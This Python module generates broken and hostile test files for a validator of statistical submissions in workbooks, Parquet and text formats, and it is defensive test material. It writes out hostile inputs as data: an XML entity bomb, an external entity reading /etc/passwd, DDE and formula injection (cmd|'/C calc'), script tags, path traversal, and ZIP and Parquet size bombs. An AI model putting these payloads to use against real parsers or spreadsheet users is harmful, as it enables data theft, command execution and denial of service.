"""Makes those files of tests/broken/ that no editor can write: workbooks, Parquet and texts in odd encodings.

`python -m tests.brokenfiles --write` renews them, each with its `<name>.expect`; a test proves that the folder holds
what is made here. The parts of their ZIPs are stored as they are, because packed ones differ from library to library.
What is too large for a repository is made by tests/hostile.py when it is needed.
"""

import io
import struct
import sys
import zipfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from functools import partial
from pathlib import Path

from tests import parquets, workbooks
from tests.parquets import Column, parquet
from tests.workbooks import HEADER, Raw, rows_xml

BROKEN = Path(__file__).resolve().parent / "broken"

SOUND = ("市人社局", "trained-care-workers", "1000", "人")

#: Bodies that report a figure which nobody asks them for, each in one file only: two of one body would differ.
BODIES = [
    "市科技局",
    "市民宗委",
    "市公安局",
    "市民政局",
    "市司法局",
    "市財政局",
    "市資建局",
    "市生態環境局",
    "市住新局",
    "市交通運輸局",
    "市水利和湖泊局",
    "市商務局",
    "市文旅局",
    "市衛生健康委",
    "市退役軍人事務局",
    "市應急管理局",
    "市審計局",
    "市政府國資委",
    "市市場監管局",
    "市醫保局",
    "市城管執法委",
    "市政數局",
    "市信訪局",
    "市國動辦",
    "市桂花辦",
    "市創文辦",
    "市委組織部",
    "市委宣傳部",
    "市委統戰部",
    "市委政法委",
    "市委社會工作部",
    "市委政研室",
    "市委編辦",
    "市委外辦",
    "市總工會",
    "團市委",
    "市婦聯",
    "市工商聯",
    "市科協",
    "市殘聯",
]
FIGURE = ("school-places", "5", "個")

_SOUND_LINE = f"# sound: {SOUND[0]} {SOUND[1]}\n"
_CSV = "organization,indicator,value,unit\n市人社局,trained-care-workers,1000,人\n"


@dataclass(frozen=True, slots=True)
class Made:
    """A broken file: its bytes, what is wrong with it in a sentence, and what is expected of a check.

    `expect` is the code, the place and the words as in tests/brokencases.py, `also` a code that follows from the same
    fault; `sound` says that the figure of SOUND is judged all the same, `note` that the answer is complete.
    """

    name: str
    content: bytes
    remark: str
    expect: str
    sound: bool = False
    note: bool = False
    also: str = ""

    def declared(self) -> str:
        """The text of the `.expect` beside the file."""
        sound = _SOUND_LINE if self.sound else ""
        also = f"# also: {self.also}\n" if self.also else ""
        return f"# {self.remark}\n# expect: {self.expect}\n{also}{sound}" + ("# exit: 0\n" if self.note else "")


# Parts as they are, in every workbook made here.
workbook = partial(workbooks.workbook, packed=False)
table = partial(workbooks.table, packed=False)
archive = partial(workbooks.archive, packed=False)


def faulty(body: str, value: str, unit: str = "個", formats: Sequence[str] = ()) -> bytes:
    """A sound figure, and one whose value stands as given in C3."""
    return workbook({"Sheet1": rows_xml([HEADER, SOUND, (body, FIGURE[0], value, unit)])}, formats=formats)


def sound(parts: Mapping[str, bytes] | None = None, hidden_sheets: Sequence[str] = ()) -> bytes:
    """One sound figure."""
    return workbook({"Sheet1": rows_xml([HEADER, SOUND])}, parts=parts, hidden_sheets=hidden_sheets)


def _changed(content: bytes, old: bytes, new: bytes) -> bytes:
    """A ZIP whose bytes were changed without its knowing."""
    assert len(old) == len(new)
    assert old in content
    return content.replace(old, new)


def _replaced(part: str, change: Callable[[str], str]) -> bytes:
    """A sound workbook with one part written otherwise."""
    with zipfile.ZipFile(io.BytesIO(sound())) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    parts[part] = change(parts[part].decode()).encode()
    return archive(parts)


_SHEET = "xl/worksheets/sheet1.xml"


def _sheet(old: str, new: str) -> bytes:
    def change(text: str) -> str:
        assert old in text
        return text.replace(old, new, 1)

    return _replaced(_SHEET, change)


def _twice() -> bytes:
    # Two parts whose names differ in one letter, which is then made the same.
    other = "xl/worksheets/sheet2.xml"
    return _changed(sound(parts={other: b"<worksheet/>"}), other.encode(), _SHEET.encode())


def _overlapping() -> bytes:
    """A ZIP whose list names one part's bytes twice, as bombs do that hold the same bytes often."""
    made = bytearray(sound(parts={"xl/worksheets/sheet2.xml": b"<worksheet/>"}))
    first = made.find(b"PK\x01\x02")
    places = []
    while first >= 0:
        places.append(first)
        first = made.find(b"PK\x01\x02", first + 4)
    by_name = {bytes(made[at + 46 : at + 46 + struct.unpack_from("<H", made, at + 28)[0]]): at for at in places}
    one, two = by_name[b"xl/worksheets/sheet1.xml"], by_name[b"xl/worksheets/sheet2.xml"]
    made[one + 42 : one + 46] = made[two + 42 : two + 46]
    return bytes(made)


def _lying() -> bytes:
    """A part that says it is 10 bytes long."""
    made = bytearray(sound())
    at = made.find(b"PK\x01\x02")
    while bytes(made[at + 46 : at + 46 + len(_SHEET)]) != _SHEET.encode():
        at = made.find(b"PK\x01\x02", at + 4)
    made[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(made)


def _locked() -> bytes:
    made = bytearray(sound())
    at = made.find(b"PK\x01\x02")
    while at >= 0:
        made[at + 8] |= 1
        at = made.find(b"PK\x01\x02", at + 4)
    return bytes(made)


def _method(number: int) -> bytes:
    """A part packed in a way that workbooks do not know."""
    made = bytearray(sound())
    at = made.find(b"PK\x01\x02")
    while at >= 0:
        made[at + 10 : at + 12] = struct.pack("<H", number)
        at = made.find(b"PK\x01\x02", at + 4)
    return bytes(made)


_BOMB = (
    b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
    b'<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]><sst><si><t>&e;</t></si></sst>'
)
_OUTSIDE = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><sst><si><t>&b;</t></si></sst>'


def _workbooks_with_figures() -> Iterator[Made]:
    """What an office does to a figure in a workbook."""
    bodies = iter(BODIES)
    yield Made(
        "xlsx-header-merged.xlsx",
        workbook({"S": rows_xml([(*HEADER[:3], ""), SOUND])}, merged=["C1:D1"]),
        "One heading over two columns.",
        'column-repeated S!D1 "value"',
    )
    yield Made(
        "xlsx-header-twice.xlsx",
        table(SOUND, HEADER),
        "The header again, as on a second printed page.",
        'unknown-organization Sheet1!A3 "organization"',
        sound=True,
        also="unknown-indicator",
    )
    yield Made(
        "xlsx-header-missing.xlsx",
        workbook({"S": rows_xml([SOUND])}),
        "No row names the columns.",
        'column-missing 1:1 "organization"',
    )
    values = [
        (
            "formula-without-value",
            Raw("|<f>B9*2</f>"),
            "A formula that nobody calculated.",
            "formula-without-value",
            "=B9*2",
        ),
        (
            "formula-error",
            Raw('t="e"|<f>1/0</f><v>#DIV/0!</v>'),
            "A formula without an answer.",
            "number-unreadable",
            "#DIV",
        ),
        ("boolean", Raw('t="b"|<v>1</v>'), "True in the place of a number.", "number-unreadable", "TRUE"),
        ("exponent", Raw("|<v>1E400</v>"), "A number beyond all numbers.", "number-unreadable", "1E400"),
        (
            "exponent-bomb",
            Raw("|<v>1E999999999</v>"),
            "A number of a thousand million digits.",
            "number-unreadable",
            "1E9",
        ),
        ("nan", Raw("|<v>NaN</v>"), "No number, said as a number.", "number-unreadable", "NaN"),
        ("infinite", Raw("|<v>-INF</v>"), "Infinity.", "number-unreadable", "INF"),
        ("hexadecimal", Raw("|<v>0x1F</v>"), "Digits of another base.", "number-unreadable", "0x1F"),
        (
            "many-digits",
            "1234567890123456789",
            "More digits than can be judged.",
            "too-many-digits",
            "1234567890123456789",
        ),
        ("two-lines", "5\n7", "Two numbers in one cell.", "number-unreadable", "5"),
        ("thousand-dots", "1.234.567", "Thousands as others write them.", "number-unreadable", "1.234.567"),
        ("formula-as-text", "=1+4", "A formula that was pasted as text.", "number-unreadable", "=1+4"),
        ("command-as-text", "=cmd|'/C calc'!A0", "A command as text.", "number-unreadable", "cmd"),
        ("script", "<script>alert(1)</script>", "A script.", "number-unreadable", "script"),
        ("bidi", "\u202e5", "A mark that turns the direction of writing.", "number-unreadable", "5"),
        ("placeholder", "待填", "A word that holds a place.", "number-unreadable", "待填"),
    ]
    for name, value, remark, code, word in values:
        yield Made(
            f"xlsx-value-{name}.xlsx", faulty(next(bodies), value), remark, f'{code} Sheet1!C3 "{word}"', sound=True
        )
    yield Made(
        "xlsx-value-currency.xlsx",
        faulty(next(bodies), "¥5", ""),
        "A sign of money.",
        'number-unreadable Sheet1!C3 "¥"',
        sound=True,
    )
    yield Made(
        "xlsx-value-date.xlsx",
        faulty(next(bodies), Raw('s="1"|<v>45838</v>'), formats=["yyyy-mm-dd"]),
        "A date, as a spreadsheet makes of 6-30.",
        'number-unreadable Sheet1!C3 "2025-06-30"',
        sound=True,
    )
    yield Made(
        "xlsx-value-thousands-format.xlsx",
        faulty(next(bodies), Raw('s="1"|<v>5000</v>'), formats=["0,"]),
        "A format that shows thousands.",
        'number-format-doubtful Sheet1!C3 "5000"',
        sound=True,
    )
    yield Made(
        "xlsx-value-without-unit.xlsx",
        faulty(next(bodies), Raw("|<v>5</v>"), ""),
        "A bare number.",
        'unit-missing Sheet1!C3 "5"',
        sound=True,
    )
    yield Made(
        "xlsx-value-over-two-rows.xlsx",
        workbook(
            {"S": rows_xml([HEADER, SOUND, (next(bodies), *FIGURE), (next(bodies), FIGURE[0], "", "個")])},
            merged=["C3:C4"],
        ),
        "One figure for two rows.",
        'figure-spans-rows S!C3 "several rows"',
        sound=True,
        also="figure-spans-rows",
    )
    yield Made(
        "xlsx-two-scripts.xlsx",
        table(("市林業局", *FIGURE), ("市林业局", FIGURE[0], "6", "個")),
        "One body in two spellings, with two figures.",
        'figures-conflict Sheet1!C3 "5 個" "6 個"',
    )
    yield Made(
        "xlsx-organization-zero-width.xlsx",
        table(SOUND, ("通\u200b山縣", *FIGURE)),
        "A name with a blank that nobody sees.",
        "unknown-organization Sheet1!A3",
        sound=True,
    )
    yield Made(
        "xlsx-organization-bidi.xlsx",
        table(SOUND, ("\u202e縣山通\u202c", *FIGURE)),
        "A name that is shown backwards.",
        "unknown-organization Sheet1!A3",
        sound=True,
    )
    for name, text in (
        ("formula", "=HYPERLINK(A1)"),
        ("plus", "+1+cmd"),
        ("minus", "-2+3"),
        ("at", "@SUM(1)"),
        ("script", "<img src=x>"),
        ("path", "../../etc/passwd"),
    ):
        yield Made(
            f"xlsx-organization-{name}.xlsx",
            table(SOUND, (text, *FIGURE)),
            "A name that other programs would obey.",
            f'unknown-organization Sheet1!A3 "{text}"',
            sound=True,
        )


def _workbooks_with_more() -> Iterator[Made]:
    """What is said of a workbook although its figures are judged."""
    notes = [
        ("external-link", sound(parts={"xl/externalLinks/externalLink1.xml": b"<a/>"}), 'links-not-followed - "none"'),
        ("connection", sound(parts={"xl/connections.xml": b"<connections/>"}), 'links-not-followed - "none"'),
        ("macros", sound(parts={"xl/vbaProject.bin": b"x"}), 'macros-not-run - "macros"'),
        ("macro-sheet", sound(parts={"xl/macrosheets/sheet1.xml": b"<a/>"}), 'macros-not-run - "macros"'),
        ("hidden-row", workbook({"S": rows_xml([HEADER, SOUND], hidden=[2])}), 'hidden-cells S!A1 "1 hidden"'),
        ("hidden-sheet", sound(hidden_sheets=["Sheet1"]), 'hidden-cells Sheet1!A1 "Sheet1"'),
        (
            "hidden-column",
            _sheet("<sheetData>", '<cols><col min="3" max="3" hidden="1"/></cols><sheetData>'),
            'hidden-cells Sheet1!A1 "1 hidden"',
        ),
        ("cells-beside", table((*SOUND, "12")), 'cells-without-column Sheet1!E2 "1 cells"'),
        (
            "second-sheet",
            workbook({"S": rows_xml([HEADER, SOUND]), "說明": rows_xml([["x"]])}),
            'sheet-not-read 說明!A1 "說明"',
        ),
        (
            "webservice",
            table((*SOUND[:2], Raw('|<f>WEBSERVICE("http://example.invalid/"&amp;A1)</f><v>1000</v>'), "人")),
            'formula-calls-out Sheet1!C2 "WEBSERVICE"',
        ),
        (
            "dde",
            table((*SOUND[:2], Raw("|<f>cmd|'/C calc'!A0</f><v>1000</v>"), "人")),
            'formula-calls-out Sheet1!C2 "cmd"',
        ),
    ]
    for name, content, expect in notes:
        yield Made(f"xlsx-with-{name}.xlsx", content, "Said, and judged all the same.", expect, sound=True, note=True)


def _workbooks_that_are_none() -> Iterator[Made]:
    """What cannot be read as a workbook, or would cost who reads it dearly."""
    one = sound()
    broken = [
        ("truncated", one[:-100], "zip"),
        ("truncated-early", one[:200], "zip"),
        ("csv-renamed", _CSV.encode(), "zip"),
        ("no-bytes", b"", "zip"),
        ("another-zip", archive({"a.txt": b"x"}), "xl/workbook.xml"),
        ("opendocument", archive({"mimetype": b"x", "content.xml": b"<a/>"}), "xl/workbook.xml"),
        ("password-on-part", _locked(), "encrypted"),
        ("wrong-sum", _changed(one, b"1000", b"1001"), "CRC"),
        ("overlapping-parts", _overlapping(), "sheet"),
        ("size-that-lies", _lying(), ""),
        ("packed-oddly", _method(14), "14"),
        ("part-twice", _twice(), "two parts"),
        ("entities", sound(parts={"xl/styles.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "DOCTYPE"),
        ("entity-bomb", sound(parts={"xl/sharedStrings.xml": _BOMB}), "DOCTYPE"),
        ("entity-outside", sound(parts={"xl/sharedStrings.xml": _OUTSIDE}), "DOCTYPE"),
        (
            "encoding-unknown",
            sound(parts={"xl/styles.xml": b'<?xml version="1.0" encoding="klingon"?><a/>'}),
            "klingon",
        ),
        ("encoding-seven-bits", sound(parts={"xl/styles.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}), "XML"),
        ("encoding-mixed", sound(parts={"xl/styles.xml": "<a>甲".encode() + "乙</a>".encode("gbk")}), "XML"),
        ("nested-deep", sound(parts={"xl/styles.xml": b"<a>" * 200 + b"</a>" * 200}), "nested"),
        ("xml-cut", _sheet("</sheetData>", ""), "XML"),
        ("cell-twice", _sheet('r="D2"', 'r="C2"'), "C2 twice"),
        ("cell-in-another-row", _sheet('r="D2"', 'r="D9"'), "D9"),
        ("cell-without-letters", _sheet('r="D2"', 'r="22"'), "22"),
        ("row-beyond", _sheet('<row r="2">', '<row r="99999999">'), "row"),
        ("string-that-is-not-there", table((*SOUND[:3], Raw('t="s"|<v>7</v>'))), "list index"),
        (
            "string-before-the-first",
            workbook({"S": rows_xml([HEADER, (*SOUND[:3], Raw('t="s"|<v>-1</v>'))])}, strings=["<t>人</t>"]),
            "-1",
        ),
        ("sheets-of-one-name", workbook({"甲a": "", "甲A": ""}), "names of sheets"),
        (
            "sheet-that-is-not-there",
            _replaced("xl/_rels/workbook.xml.rels", lambda text: text.replace("sheet1", "sheet9")),
            "sheet9",
        ),
        ("sheet-name-long", workbook({"很" * 100: rows_xml([HEADER, SOUND])}), "names of sheets"),
    ]
    for name, content, word in broken:
        said = f' "{word}"' if word else ""
        yield Made(f"xlsx-broken-{name}.xlsx", content, "No workbook that can be read.", f"workbook-broken -{said}")
    yield Made(
        "xlsx-column-beyond.xlsx",
        _sheet('<c r="D2"', '<c r="ZZZ2"'),
        "A cell far to the right, which would make every row as long.",
        "workbook-too-large -",
    )
    yield Made(
        "xlsx-password.xlsx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
        "A password on the whole, or an old format renamed.",
        'workbook-protected - "password"',
    )
    yield Made("xlsx-empty.xlsx", workbook({"S": ""}), "A workbook of empty sheets.", "submission-empty -")
    for ending in ("xlsm", "xls", "ods"):
        yield Made(f"format-{ending}.{ending}", one, "A format that is not read.", f'format-unknown - ".{ending}"')


def _columns(*values: Column, organization: str | Column = SOUND[0]) -> list[Column]:
    return [
        parquets.text("organization", organization) if isinstance(organization, str) else organization,
        parquets.text("indicator", FIGURE[0]),
        *values,
        parquets.text("unit", FIGURE[2]),
    ]


def _parquet_files() -> Iterator[Made]:
    """Parquet that is broken, lies, or holds what cannot be read exactly."""
    value = parquets.text("value", FIGURE[1])
    whole = parquet(*_columns(value))
    broken = [
        ("truncated", whole[:-20]),
        ("letters-only", b"PAR1"),
        ("no-bytes", b""),
        ("csv-renamed", _CSV.encode()),
        ("under-a-key", whole[:-4] + b"PARE"),
        ("list-too-long", whole[:-8] + b"\xff\xff\xff\x7fPAR1"),
        ("rows-that-are-not-there", parquet(*_columns(value), rows=90_000)),
        ("page-of-gigabytes", parquet(*_columns(value), page_size=2**31 - 1)),
        ("page-below-zero", parquet(*_columns(value), page_size=-5)),
        (
            "text-that-is-none",
            parquet(*_columns(value, organization=parquets.raw("organization", b"\xff\xfe", means=parquets.UTF8))),
        ),
    ]
    for name, content in broken:
        yield Made(f"parquet-broken-{name}.parquet", content, "No Parquet that can be read.", "parquet-broken -")
    cells = [
        ("float", parquets.numbers("value", 39000.5), 'parquet-float 1:3 "binary"'),
        ("float-nan", parquets.numbers("value", float("nan")), 'parquet-float 1:3 "binary"'),
        ("float-short", parquets.numbers("value", 39000.0, type=parquets.FLOAT), 'parquet-float 1:3 "binary"'),
        (
            "many-places",
            parquets.decimals("value", 3900012345678, precision=20, scale=8),
            'too-many-digits 1:3 "39000.12345678"',
        ),
        ("many-digits", parquets.decimals("value", 10**37, precision=38, scale=0), 'too-many-digits 1:3 "1000000"'),
        (
            "time",
            parquets.numbers("value", 1e12, type=parquets.INT64, means=parquets.TIMESTAMP),
            'parquet-column 1:3 "TIMESTAMP"',
        ),
        (
            "date",
            parquets.numbers("value", 20269, type=parquets.INT32, means=parquets.DATE),
            'number-unreadable 1:3 "2025-06-30"',
        ),
        ("list", parquets.repeated(value), 'parquet-column 1:3 "VARCHAR[]"'),
        ("bytes", parquets.raw("value", b"39000"), 'parquet-column 1:3 "BLOB"'),
        ("nothing", parquets.text("value", None), "number-missing 1:3"),
        ("script", parquets.text("value", "<b>39000</b>"), 'number-unreadable 1:3 "39000"'),
        ("formula", parquets.text("value", "=1+1"), 'number-unreadable 1:3 "=1+1"'),
    ]
    for (name, column, expect), body in zip(cells, reversed(BODIES), strict=False):
        content = parquet(*_columns(column, organization=body))
        yield Made(f"parquet-value-{name}.parquet", content, "A figure that cannot be read.", expect)
    organizations = [
        ("bytes", parquets.raw("organization", SOUND[0].encode()), 'parquet-column 1:1 "BLOB"'),
        ("list", parquets.repeated(parquets.text("organization", SOUND[0])), 'parquet-column 1:1 "VARCHAR[]"'),
        ("number", parquets.numbers("organization", 7, type=parquets.INT64), 'unknown-organization 1:1 "7"'),
        ("formula", parquets.text("organization", "@SUM(1)"), 'unknown-organization 1:1 "@SUM(1)"'),
    ]
    for name, column, expect in organizations:
        content = parquet(*_columns(value, organization=column))
        yield Made(f"parquet-organization-{name}.parquet", content, "A body that nobody can tell.", expect)
    yield Made(
        "parquet-column-missing.parquet", parquet(*_columns()), "No column of figures.", 'column-missing - "value"'
    )
    yield Made(
        "parquet-without-rows.parquet",
        parquet(parquets.text("organization"), parquets.text("indicator"), parquets.text("value")),
        "Columns and no row.",
        "submission-empty -",
    )
    yield Made(
        "parquet-rows-by-the-billion.parquet",
        parquet(*(parquets.running(column, 10**9) for column in _columns(value))),
        "Half a kilobyte that stands for a thousand million rows.",
        "too-many-rows -",
    )
    long = parquets.text("value", "9" * 2_000)
    yield Made(
        "parquet-text-by-the-gigabyte.parquet",
        parquet(*(parquets.running(column, 90_000) for column in _columns(long))),
        "One text, said ninety thousand times in two kilobytes.",
        "too-many-rows -",
    )


def _encodings() -> Iterator[Made]:
    """Texts in encodings that are mixed up, cut, or not those of submissions."""
    line = _CSV.splitlines()[1]
    yaml = "organization: 市人社局\nfigures:\n  trained-care-workers: 1000 人\n"
    cases = [
        ("csv-utf-16.csv", _CSV.encode("utf-16"), 'encoding-doubtful 1:1 "UTF-8"'),
        ("csv-utf-16-unmarked.csv", _CSV.encode("utf-16-be"), 'encoding-doubtful 1 "UTF-8"'),
        ("csv-utf-32.csv", _CSV.encode("utf-32"), 'encoding-doubtful 1:1 "UTF-8"'),
        ("csv-utf-8-then-gbk.csv", _CSV.encode() + line.encode("gbk"), 'encoding-doubtful 3 "UTF-8"'),
        ("csv-gbk-then-utf-8.csv", _CSV.encode("gbk") + line.encode(), 'encoding-doubtful 3 "UTF-8"'),
        ("csv-mark-then-gbk.csv", b"\xef\xbb\xbf" + _CSV.encode("gbk"), 'encoding-doubtful 2 "UTF-8"'),
        ("csv-cut-within-a-character.csv", _CSV.encode()[:-3], 'encoding-doubtful 2 "UTF-8"'),
        (
            "csv-latin-1.csv",
            b"organization,indicator,value,unit\nd\xe9partement,x,5,\xb0\n",
            'encoding-doubtful 2 "UTF-8"',
        ),
        ("yaml-utf-16.yaml", yaml.encode("utf-16"), "not-utf8 1:1"),
        ("yaml-gbk.yaml", yaml.encode("gbk"), "not-utf8 1:15"),
        ("yaml-latin-1.yaml", yaml.encode() + b"note: caf\xe9\n", "not-utf8 4:10"),
        ("yaml-gbk-within.yaml", yaml.encode() + "note: 甲".encode("gbk"), "not-utf8 4:7"),
        ("yaml-cut-within-a-character.yaml", yaml.encode()[:-2], "not-utf8 3"),
        ("yaml-surrogates.yaml", yaml.encode() + b"note: \xed\xa0\x80\xed\xb0\x80\n", "not-utf8 4:7"),
        ("yaml-overlong.yaml", yaml.encode() + b"note: \xc0\xaf\n", "not-utf8 4:7"),
    ]
    for name, content, expect in cases:
        yield Made(name, content, "An encoding that is not one.", expect)


def made() -> list[Made]:
    """All of them, sorted by name."""
    groups = (
        _workbooks_with_figures,
        _workbooks_with_more,
        _workbooks_that_are_none,
        _parquet_files,
        _encodings,
    )
    return sorted((case for group in groups for case in group()), key=lambda case: case.name)


def contents() -> dict[str, bytes]:
    """The bytes of every file, and of what stands beside it."""
    return {
        name: content
        for case in made()
        for name, content in ((case.name, case.content), (f"{case.name}.expect", case.declared().encode()))
    }


if __name__ == "__main__":
    for file_name, file_content in contents().items():
        path = BROKEN / file_name
        if not path.exists() or path.read_bytes() != file_content:
            print(file_name)
            if "--write" in sys.argv:
                path.write_bytes(file_content)
